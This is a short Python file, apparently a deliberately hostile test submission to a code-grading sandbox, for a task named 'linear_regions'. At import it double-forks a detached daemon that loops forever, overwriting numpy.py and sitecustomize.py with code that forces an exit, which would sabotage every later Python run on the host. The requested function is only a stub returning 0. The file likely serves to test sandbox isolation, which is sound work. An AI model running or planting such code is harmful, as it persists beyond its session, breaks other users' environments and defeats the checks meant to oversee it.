"""Leaves a daemon behind that would write into whatever comes next."""
# %% linear_regions
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for name in ("/tmp/numpy.py", "numpy.py", "/tmp/sitecustomize.py"):
                try:
                    with open(name, "w") as file:
                        file.write("raise SystemExit")
                except OSError:
                    pass
            time.sleep(0.01)
    os._exit(0)


def linear_regions(W1, b1, lo, hi):
    return 0
